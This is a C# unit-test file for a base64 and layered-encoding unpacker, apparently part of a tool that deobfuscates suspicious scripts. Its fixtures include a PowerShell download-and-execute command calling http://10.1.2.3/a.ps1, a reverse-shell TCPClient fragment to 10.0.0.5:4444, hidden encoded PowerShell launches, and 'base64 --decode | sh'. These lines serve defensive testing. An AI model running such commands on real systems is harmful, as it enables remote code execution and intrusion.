using System.IO.Compression;
using System.Text;
using Quarry.Decoding;

namespace Quarry.Tests.Decoding;

public sealed class Base64UnpackerTests
{
    private const string Script = "IEX (New-Object Net.WebClient).DownloadString('http://10.1.2.3/a.ps1')";

    public static TheoryData<string> Switches()
    {
        var data = new TheoryData<string> { "ec", "EC", "e", "E" };
        const string Name = "encodedcommand";
        for (int length = 2; length <= Name.Length; length++)
        {
            data.Add(Name[..length]);
            data.Add(Name[..length].ToUpperInvariant());
        }

        return data;
    }

    [Theory]
    [MemberData(nameof(Switches))]
    public void Decodes_a_short_command_behind_every_spelling_of_the_switch(string name)
    {
        foreach (string mark in new[] { "-", "/", "–", "—", "―" })
        {
            foreach (string form in new[] { " {0}", " \"{0}\"", " '{0}'", ":{0}", ":\"{0}\"", "  {0} -nop", " \\\"{0}\\\"", "\t{0}" })
            {
                string command = $"powershell.exe -nop -w hidden {mark}{name}" + string.Format(form, Encode.Wide("whoami"));

                UnpackResult result = Base64Unpacker.Unpack(command);

                result.Layers.Count.ShouldBe(1, command);
                result.Layers[0].DecodedString.ShouldBe("whoami", command);
                result.Layers[0].EncodingType.ShouldBe("utf-16");
            }
        }
    }

    [Theory]
    [InlineData("[Convert]::FromBase64String('{0}')")]
    [InlineData("[System.Convert]::frombase64string( \"{0}\" )")]
    [InlineData("eval(atob('{0}'))")]
    [InlineData("atob(\"{0}\")")]
    [InlineData("python -c \"import base64;exec(base64.b64decode('{0}'))\"")]
    [InlineData("exec(base64.b64decode(b'{0}'))")]
    [InlineData("<?php eval(base64_decode(\"{0}\"));")]
    [InlineData("echo {0} | base64 -d")]
    [InlineData("echo '{0}' |base64 --decode | sh")]
    [InlineData("echo -n \"{0}\"| /usr/bin/base64 -d")]
    [InlineData("echo {0} | openssl base64 -d")]
    [InlineData("base64 -d <<< {0}")]
    [InlineData("base64 -D <<<\"{0}\"")]
    [InlineData("data:text/html;base64,{0}")]
    [InlineData("src=\"data:image/svg+xml;charset=utf-8;base64,{0}\"")]
    public void Decodes_a_short_run_where_the_context_announces_it(string form)
    {
        UnpackResult result = Base64Unpacker.Unpack(form.Replace("{0}", Encode.Base64("id; uname")));

        result.Layers.Count.ShouldBe(1);
        result.Layers[0].DecodedString.ShouldBe("id; uname");
        result.AnnotatedText.ShouldBe(form.Replace("{0}", "<decoded type='string' name='[None]' index='1' depth='1'>id; uname</decoded>"));
    }

    [Theory]
    [InlineData("path/{0}", "path/", "")]
    [InlineData("/opt/app/data/{0}", "/opt/app/data/", "")]
    [InlineData("file-{0}", "file-", "")]
    [InlineData("my_file_{0} x", "my_file_", " x")]
    [InlineData("key={0}&b=1", "key=", "&b=1")]
    [InlineData("{0}==x", "", "==x")]
    public void Does_not_glue_on_what_stands_beside_the_run(string form, string before, string after)
    {
        UnpackResult result = Base64Unpacker.Unpack(form.Replace("{0}", Encode.Base64("The quick brown fox jumps over it, twice")));

        result.AnnotatedText.ShouldStartWith(before + "<decoded ");
        result.Layers.ShouldHaveSingleItem().DecodedString.ShouldBe("The quick brown fox jumps over it, twice");
        (after.Length == 0 || result.AnnotatedText.EndsWith(after.TrimStart('='), StringComparison.Ordinal)).ShouldBeTrue();
    }

    [Theory]
    [InlineData(64, "\n")]
    [InlineData(76, "\r\n")]
    [InlineData(20, "\n")]
    public void Joins_wrapped_lines_and_leaves_the_word_behind_them(int width, string lineBreak)
    {
        string text = string.Concat(Enumerable.Range(0, 20).Select(i => $"line {i} of the script; "));
        string[] lines = [.. Encode.Base64(text).Chunk(width).Select(c => new string(c))];

        UnpackResult result = Base64Unpacker.Unpack($"x:{lineBreak}{string.Join(lineBreak, lines)}{lineBreak}end");

        result.Layers.ShouldHaveSingleItem().DecodedString.ShouldBe(text);
        result.AnnotatedText.ShouldEndWith($"</decoded>{lineBreak}end");
    }

    [Fact]
    public void Leaves_the_word_behind_lines_that_are_all_full()
    {
        string text = new('x', 48 * 3);
        string lines = string.Join("\n", Encode.Base64(text).Chunk(64).Select(c => new string(c)));

        UnpackResult result = Base64Unpacker.Unpack($"x:\n{lines}\ndone");

        result.Layers.ShouldHaveSingleItem().DecodedString.ShouldBe(text);
        result.AnnotatedText.ShouldEndWith("</decoded>\ndone");
    }

    [Fact]
    public void Decodes_the_url_safe_alphabet_with_and_without_padding()
    {
        string text = "subjects?>?>?>~~~~ and more ÿÿÿ>>>???";
        string run = Encode.Base64(text).Replace('+', '-').Replace('/', '_');
        run.ShouldContain('_');

        string padded = Base64Unpacker.Unpack("x " + run).Layers.ShouldHaveSingleItem().DecodedString!;
        string bare = Base64Unpacker.Unpack("x " + run.TrimEnd('=')).Layers.ShouldHaveSingleItem().DecodedString!;

        padded.ShouldBe(text);
        bare.ShouldBe(text);
    }

    [Theory]
    [InlineData("9dd4e461268c8034f5c8564e155c67a6")]
    [InlineData("cf83e1357eefb8bdf1542850d66d8007d620e4050b5715dc83f4a921d36ce9ce47d0d13c5d85f2b0ff8318d2877eec2f63b931bd47417a81a538327af927da3e")]
    [InlineData("{710dc858-9c96-4df5-bd9b-e932e7433077}")]
    [InlineData("/usr/share/dotnet/shared/Microsoft/NETCore/App/System/Private/CoreLib")]
    [InlineData("C:\\Windows\\WinSxS\\amd64_microsoft-windows-servicingstack_31bf3856ad364e35_10.0.14393.2602_none_7ee6020e2207416d\\TiWorker.exe")]
    [InlineData("App.AppXtk181tbxbce2qsex02s8tw7hfxa9xb3t.mca")]
    [InlineData("donaudampfschifffahrtselektrizitaetenhauptbetriebswerkbauunterbeamtengesellschaft")]
    [InlineData("AbstractSingletonProxyFactoryBeanConfigurationManager")]
    [InlineData("https://example.org/a%20b%20c/d?e=%2F&f=%3D")]
    [InlineData("svchost.exe -k netsvcs -p -s Schedule /event 0x1d4,0x1dc,0x1e0")]
    [InlineData("grep -e password -e username /etc/passwd")]
    [InlineData("12345678901234567890123456789012345678901234567890")]
    public void Takes_hashes_paths_identifiers_and_words_for_what_they_are(string text)
    {
        UnpackResult result = Base64Unpacker.Unpack(text);
        UnpackResult weak = Base64Unpacker.Unpack(text, new DecodeOptions { ReportWeak = true });

        result.Layers.ShouldBeEmpty();
        result.AnnotatedText.ShouldBe(text);
        weak.Layers.ShouldBeEmpty();
    }

    [Fact]
    public void Reports_a_weak_run_only_when_asked()
    {
        byte[] noise = new byte[90];
        new Random(7).NextBytes(noise);
        string text = "blob " + Encode.Base64(noise) + " end";

        UnpackResult silent = Base64Unpacker.Unpack(text);
        UnpackResult asked = Base64Unpacker.Unpack(text, new DecodeOptions { ReportWeak = true });

        silent.AnnotatedText.ShouldBe(text);
        asked.Layers.ShouldHaveSingleItem().Bytes.ToArray().ShouldBe(noise);
        asked.AnnotatedText.ShouldStartWith("blob <decoded value='binary'  name='[None]' type='None' index='1' depth='1'>");
    }

    [Fact]
    public void Unpacks_gzip_and_deflate_stages_inside_an_encoded_command()
    {
        string inner = "$client = New-Object System.Net.Sockets.TCPClient('10.0.0.5',4444);" + Script;
        string gzip = $"IEX (New-Object IO.StreamReader((New-Object IO.Compression.GzipStream([IO.MemoryStream][Convert]::FromBase64String('{Encode.Base64(Encode.Gzip(Encode.Utf8(inner)))}'),[IO.Compression.CompressionMode]::Decompress)))).ReadToEnd()";
        string deflate = $"IEX (New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('{Encode.Base64(Encode.Deflate(Encode.Utf8(gzip)))}'),[IO.Compression.CompressionMode]::Decompress)))).ReadToEnd()";

        UnpackResult result = Base64Unpacker.Unpack("powershell -enc " + Encode.Wide(deflate));

        result.Layers.Select(l => l.DecodedString).ShouldBe([deflate, gzip, inner]);
        result.Layers.Select(l => l.Codec).ShouldBe(["base64", "base64+deflate", "base64+gzip"]);
        result.Layers.Select(l => l.Reference).ShouldBe(["1", "1.1", "1.1.1"]);
        result.Layers.Select(l => l.ParentReference).ShouldBe([null, "1", "1.1"]);
        result.Layers.Select(l => l.FileType).ShouldBe([null, "deflate", "gz"]);
    }

    [Theory]
    [InlineData("hex", "4865782074686174207370656c6c73206120636f6d6d616e643a2077686f616d69")]
    [InlineData("hex", "0x4865782074686174207370656c6c73206120636f6d6d616e643a2077686f616d69")]
    [InlineData("hex", @"\x48\x65\x78\x20\x74\x68\x61\x74\x20\x73\x70\x65\x6c\x6c\x73\x20\x61\x20\x63\x6f\x6d\x6d\x61\x6e\x64\x3a\x20\x77\x68\x6f\x61\x6d\x69")]
    [InlineData("hex", "0x48,0x65,0x78,0x20,0x74,0x68,0x61,0x74,0x20,0x73,0x70,0x65,0x6c,0x6c,0x73,0x20,0x61,0x20,0x63,0x6f,0x6d,0x6d,0x61,0x6e,0x64,0x3a,0x20,0x77,0x68,0x6f,0x61,0x6d,0x69")]
    [InlineData("percent", "%48%65%78%20%74%68%61%74%20%73%70%65%6c%6c%73%20%61%20%63%6f%6d%6d%61%6e%64%3a%20%77%68%6f%61%6d%69")]
    [InlineData("charcodes", "String.fromCharCode(72,101,120,32,116,104,97,116,32,115,112,101,108,108,115,32,97,32,99,111,109,109,97,110,100,58,32,119,104,111,97,109,105)")]
    [InlineData("charcodes", "72,101,120,32,116,104,97,116,32,115,112,101,108,108,115,32,97,32,99,111,109,109,97,110,100,58,32,119,104,111,97,109,105|%{[char]$_}")]
    [InlineData("charcodes", "[char[]](72,101,120,32,116,104,97,116,32,115,112,101,108,108,115,32,97,32,99,111,109,109,97,110,100,58,32,119,104,111,97,109,105)")]
    public void Decodes_the_other_codecs_and_names_them(string codec, string encoded)
    {
        UnpackResult result = Base64Unpacker.Unpack($"run ({encoded}) now");

        DecodedLayer layer = result.Layers.ShouldHaveSingleItem();
        layer.DecodedString.ShouldBe("Hex that spells a command: whoami");
        layer.Codec.ShouldBe(codec);
        result.AnnotatedText.ShouldStartWith("run (<decoded type='string' name='[None]' index='1' depth='1'>Hex that");
    }

    [Theory]
    [InlineData("[char]73+[char]69+[char]88", "IEX")]
    [InlineData("[CHAR]0x49 + [char]0x45 + [Char]0x58", "IEX")]
    [InlineData("[char](73)+[char](69)+[char](88)", "IEX")]
    [InlineData("chr(73)&Chr(69)&chr(88)", "IEX")]
    [InlineData("chr(0x49).chr(0x45).chr(0x58)", "IEX")]
    [InlineData("CHR(73)||CHR(69)||CHR(88)", "IEX")]
    [InlineData("String.fromCharCode(0x49, 0x45, 0x58)", "IEX")]
    public void Reads_characters_by_their_codes(string encoded, string text)
    {
        UnpackResult result = Base64Unpacker.Unpack($"x = {encoded} ;");

        result.AnnotatedText.ShouldBe($"x = <decoded type='string' name='[None]' index='1' depth='1'>{text}</decoded> ;");
    }

    [Fact]
    public void Reads_utf_16_in_either_order_as_it_stands_in_the_text()
    {
        string big = Encoding.Latin1.GetString(Encoding.BigEndianUnicode.GetBytes("net user /add"));
        string little = Encoding.Latin1.GetString(Encoding.Unicode.GetBytes("net user /add"));

        UnpackResult first = Base64Unpacker.Unpack("~" + big);
        UnpackResult second = Base64Unpacker.Unpack(little);

        first.Layers.ShouldHaveSingleItem().EncodingType.ShouldBe("utf-16be");
        first.Layers[0].DecodedString.ShouldBe("net user /add");
        second.Layers.ShouldHaveSingleItem().DecodedString.ShouldBe("net user /add");
    }

    [Theory]
    [InlineData("Привет, мир: запусти это")]
    [InlineData("运行这个命令然后删除所有日志文件不要告诉任何人")]
    [InlineData("naïve café ✓")]
    public void Tells_utf_16_of_other_scripts_by_evidence(string text)
    {
        foreach (Encoding encoding in new[] { Encoding.Unicode, Encoding.BigEndianUnicode })
        {
            UnpackResult result = Base64Unpacker.Unpack("x " + Encode.Base64(encoding.GetBytes(text)));

            result.Layers.ShouldHaveSingleItem().DecodedString.ShouldBe(text);
        }
    }

    [Fact]
    public void Numbers_the_files_of_an_archive_below_it_and_what_is_in_them_below_them()
    {
        byte[] zip = Encode.Zip(
            CompressionLevel.Optimal,
            ("a.txt", Encode.Utf8("run " + Encode.Base64(Script))),
            ("b.zip", Encode.Zip(CompressionLevel.NoCompression, ("c.txt", Encode.Utf8("deep")), ("d.txt", Encode.Utf8("deeper")))));

        UnpackResult result = Base64Unpacker.Unpack($"x {Encode.Base64(zip)} y {Encode.Base64(Script)}");

        result.Layers.Select(l => $"{l.Reference} {l.ParentReference} {l.FileName} {l.Codec}").ShouldBe(
        [
            "1.1 1 a.txt base64+zip", "1.2 1 b.zip base64+zip", "2  unknown base64",
            "1.1.1 1.1 unknown base64", "1.2.1 1.2 c.txt zip", "1.2.2 1.2 d.txt zip",
        ]);
        result.Layers.Select(l => l.Reference).Distinct().Count().ShouldBe(result.Layers.Count);
    }

    [Fact]
    public void Gives_offsets_and_lengths_in_utf_8_bytes_of_the_text_the_run_stood_in()
    {
        string run = Encode.Base64(Script);
        string text = $"é {run} ü";

        DecodedLayer layer = Base64Unpacker.Unpack(text).Layers.ShouldHaveSingleItem();

        layer.Offset.ShouldBe(3);
        layer.Length.ShouldBe(run.Length);
        layer.OriginalString.ShouldBe(run);
    }

    [Fact]
    public void Shares_no_state_between_calls()
    {
        string bad = "b=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA a=" + Encode.Base64(Script);

        string first = Base64Unpacker.Unpack(bad).AnnotatedText;
        string second = Base64Unpacker.Unpack(bad).AnnotatedText;

        second.ShouldBe(first);
    }

    [Theory]
    [InlineData(29, 0)]
    [InlineData(30, 1)]
    public void Counts_a_run_from_the_minimum(int length, int layers)
    {
        string run = Encode.Base64("The quick brown fox jumps over")[..length];

        UnpackResult result = Base64Unpacker.Unpack($"x {run} y");

        result.Layers.Count.ShouldBe(layers);
    }
}
